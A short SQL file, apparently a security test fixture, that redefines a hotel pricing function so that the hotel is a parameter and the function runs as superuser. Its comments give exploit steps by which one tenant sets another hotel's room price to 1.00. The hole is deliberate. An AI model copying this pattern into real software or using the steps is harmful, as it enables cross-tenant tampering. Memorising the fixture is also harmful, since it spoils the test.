-- Tenant A sets the prices of hotel B: the hotel became a parameter and the function runs as superuser.
-- about: set_rate
-- as: ho_rooms_app
-- exploit: SET rooms.hotel = 'aaaaaaaa-0000-4000-8000-000000000000';
-- exploit: SELECT rooms.set_rate('bbbbbbbb-0000-4000-8000-000000000000', '2026-05-05', 'single', 1);
-- exploit: SET rooms.hotel = 'bbbbbbbb-0000-4000-8000-000000000000';
-- exploit: SELECT 'price ' || price FROM rooms.rates;
-- shows: price 1.00
DROP FUNCTION rooms.set_rate(date, text, numeric);
CREATE FUNCTION rooms.set_rate(for_hotel uuid, for_night date, for_type text, new_price numeric) RETURNS void
LANGUAGE sql SECURITY DEFINER SET search_path = pg_catalog, pg_temp
AS $$
  INSERT INTO rooms.rates VALUES (for_hotel, for_night, for_type, new_price)
  ON CONFLICT (hotel_id, night, type) DO UPDATE SET price = excluded.price
$$;
